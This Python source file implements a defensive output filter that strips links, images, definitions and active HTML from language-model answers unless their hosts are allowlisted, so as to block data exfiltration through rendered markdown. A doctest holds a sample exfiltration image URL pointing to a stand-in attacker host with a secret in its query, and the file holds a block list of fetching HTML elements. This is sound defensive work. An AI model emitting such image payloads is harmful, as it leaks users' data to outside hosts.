"""Output filter against data exfiltration through links, images and HTML.

answer in markdown or HTML → answer whose links, images and definitions lead to allowed hosts, and
whose HTML tags have no attributes. Anything else is removed or, where its end is ambiguous, escaped
so that it is shown and not followed. Code is filtered too: where code begins depends on the
renderer, so an attacker could fake it.

Source: CommonMark 0.31.2, sections 4.7 (definitions), 6.3 to 6.6 (links, images, autolinks, HTML);
GitHub Flavored Markdown, section 6.9 (extended autolinks); Rehberger, "Embrace the Red" (2023, data
exfiltration through markdown images).
"""

from __future__ import annotations

import html
import re
from collections import Counter
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from typing import Final

from mlsecops._choices import checked
from mlsecops._repr import concise_repr
from mlsecops.llm.guard.link_hosts import Hosts
from mlsecops.llm.text.unicode import sanitise

_PASSES: Final = 12  # passes; chosen: nested constructs take 2 or 3, more are refused as a whole
_REMOVED: Final = "\u2039{} removed\u203a"
_DESTINATION: Final = r"(?P<{0}>[^\s<>()\[\]\\\"'`|{{}}]+)"
_TITLE: Final = r"(?:[ ]+\"[^\"<>\[\]\\&\n`]*\")?"
_LABEL: Final = r"[^\[\]\\`<>!&\n]*"
_SCHEME: Final = r"[A-Za-z0-9+.\-]"
_URL: Final = (
    rf"(?:(?<!{_SCHEME})(?:{_SCHEME}+\\?:(?:/[\\/]|\\/)|{_SCHEME}{{2,}}\\?:\\\\)"  # C:\\ is a path
    r"|(?<![\w:/\\])[\\/]{2}(?=[^\s/\\*]+\.\w)"
    r"|(?<![A-Za-z0-9])[wW]{3}\\?[.\u3002\uff0e\uff61])[^\s<]*"
)
_DOMAIN: Final = (
    r"(?<![\w./@\\-])(?:[\w-]+\.)+[A-Za-z]{2,24}(?::[0-9]+)?(?:/(?=\S)|\?(?=\w))[^\s<]*"
)
_DEFINED: Final = r"^[ \t>*+\-0-9.)]*\[(?:[^\[\]\\]|\\[\s\S]){1,999}?\]:"
_MARKED: Final = re.compile(
    "|".join(
        (
            rf"(?P<image>!\[(?P<alt>{_LABEL})\]\({_DESTINATION.format('source')}{_TITLE}\))",
            rf"(?P<link>\[(?P<label>{_LABEL})\]\({_DESTINATION.format('target')}{_TITLE}\))",
            r"(?P<inline>\]\()",
            rf"(?P<definition>{_DEFINED}(?:[ ]*{_DESTINATION.format('defined')}{_TITLE}[ ]*$)?)",
            r"(?P<autolink><(?P<address>https://[^\s<>]*)>)",
            r"(?P<bare></?(?P<tag>[A-Za-z][A-Za-z0-9]*)[ ]?/?>)",
            r"(?P<markup><(?=[A-Za-z/!?]))",
            r"(?P<entity>&(?:#[0-9]{1,8}|#[xX][0-9a-fA-F]{1,8}|[A-Za-z][A-Za-z0-9]{1,31});)",
            rf"(?P<url>{_URL})",
            rf"(?P<domain>{_DOMAIN})",
        )
    ),
    flags=re.MULTILINE,
)
_ESCAPED: Final = {"inline": ("]\\(", "link"), "markup": ("&lt;", "html")}
_TRAILING: Final = ")].,;:!?'\"*_~>}\u203a"
_WRITTEN: Final = re.compile(f"{_URL}|{_DOMAIN}")
# Elements that fetch, run or style by themselves, or change how the rest is parsed.
_ACTIVE: Final = frozenset(
    {
        "applet", "audio", "base", "body", "button", "embed", "form", "frame", "frameset",
        "head", "html", "iframe", "image", "img", "input", "link", "listing", "marquee",
        "math", "meta", "noembed", "noframes", "noscript", "object", "picture", "plaintext",
        "portal", "script", "select", "source", "style", "svg", "template", "textarea",
        "title", "track", "video", "xmp"
    }
)  # fmt: skip
_SIGNIFICANT: Final = frozenset(":/.@\\[]()!#?`%-_\u3002\uff0e\uff61\t\n\r")


@concise_repr()
@dataclass(frozen=True, slots=True, kw_only=True)
class Filtered:
    """An answer that leads to allowed hosts only.

    Attributes:
        text: The answer to show.
        removed: Kind (`link`, `image`, `definition`, `html`, `entity`, `hidden`) → number removed
            or escaped; `answer` if the whole answer was removed.
    """

    text: str
    removed: Mapping[str, int] = field(default_factory=dict)

    @property
    def changed(self) -> bool:
        """Whether anything was removed or escaped."""
        return bool(self.removed)


@concise_repr("_links", "_images")
class OutputFilter:
    """Removes everything from answers that leads to a host not on the allowlist.

    It takes whole answers: hold a stream back until its end, since a link can span two parts.

    Args:
        links: Hosts that links may lead to.
        images: Hosts that images may come from. An image is fetched without a click, and its URL
            can carry what the model knows.

    Raises:
        UsageError: An entry is not a host.

    Examples:
        >>> OutputFilter(links=["*.example.com"]).clean("[a](https://docs.example.com/)").text
        '[a](https://docs.example.com/)'
    """

    @checked
    def __init__(self, *, links: Iterable[str] = (), images: Iterable[str] = ()) -> None:
        self._links = Hosts.of(links)
        self._images = Hosts.of(images)

    def clean(self, text: str) -> Filtered:
        """Remove or escape whatever leads elsewhere in a whole answer (markdown, HTML or text).

        Raises:
            UsageError: `text` is not a str.

        Examples:
            >>> dict(OutputFilter().clean("See ![x](https://evil.example/?q=secret)").removed)
            {'image': 1}
        """
        seen = sanitise(text)
        removed: Counter[str] = Counter()
        if seen.changed:
            removed["hidden"] = sum(seen.removed.values())
        shown = seen.text.replace("\r\n", "\n").replace("\r", "\n")
        for _ in range(_PASSES):
            after = sanitise(_MARKED.sub(lambda found: self._replaced(found, removed), shown)).text
            if after == shown:
                return Filtered(text=shown, removed=dict(removed))
            shown = after
        # It changes in every pass, so that its final form is unknown.
        return Filtered(text=_REMOVED.format("answer"), removed={**removed, "answer": 1})

    def _replaced(self, found: re.Match[str], removed: Counter[str]) -> str:
        construct = str(found.lastgroup)  # the outermost group, which closes last
        text, kind = _ESCAPED.get(construct) or getattr(self, f"_{construct}")(found)
        if text != found[0]:
            removed[kind] += 1
        return str(text)

    def _image(self, found: re.Match[str]) -> tuple[str, str]:
        allowed = self._images.allow(found["source"]) and not _WRITTEN.search(found["alt"])
        return (found[0] if allowed else _REMOVED.format("image")), "image"

    def _link(self, found: re.Match[str]) -> tuple[str, str]:
        anchor = re.fullmatch(r"#[\w-]*", found["target"], flags=re.ASCII)
        if (anchor or self._links.allow(found["target"])) and not _WRITTEN.search(found["label"]):
            return found[0], "link"
        return f"{found['label']} {_REMOVED.format('link')}", "link"

    def _definition(self, found: re.Match[str]) -> tuple[str, str]:
        target = found["defined"]
        # A definition can serve links and images.
        if target and self._links.allow(target) and self._images.allow(target):
            return found[0], "definition"
        head, _, rest = found[0].rpartition("]:")
        return f"{head}]\\:{rest}", "definition"

    def _autolink(self, found: re.Match[str]) -> tuple[str, str]:
        address = found["address"]
        if not self._links.allow(address):
            return _REMOVED.format("link"), "link"
        # Parsed as HTML it is an element, and the part in front of = an attribute.
        return (address if "=" in address else found[0]), "html"

    def _bare(self, found: re.Match[str]) -> tuple[str, str]:
        active = found["tag"].lower() in _ACTIVE
        return (f"&lt;{found[0][1:]}" if active else found[0]), "html"

    def _entity(self, found: re.Match[str]) -> tuple[str, str]:
        meant = html.unescape(found[0])
        forged = any(each in _SIGNIFICANT or each.isalnum() for each in meant)
        return (f"&amp;{found[0][1:]}" if forged else found[0]), "entity"

    def _url(self, found: re.Match[str]) -> tuple[str, str]:
        return self._written(found[0], found[0])

    def _domain(self, found: re.Match[str]) -> tuple[str, str]:
        return self._written(found[0], f"https://{found[0]}")

    def _written(self, text: str, url: str) -> tuple[str, str]:
        """A URL in running text, which renderers turn into a link."""
        core = text.rstrip(_TRAILING)
        address = url[: len(url) - len(text) + len(core)]
        if address.lower().startswith("www."):
            address = f"https://{address}"
        if self._links.allow(address):
            return text, "link"
        return _REMOVED.format("link"), "link"
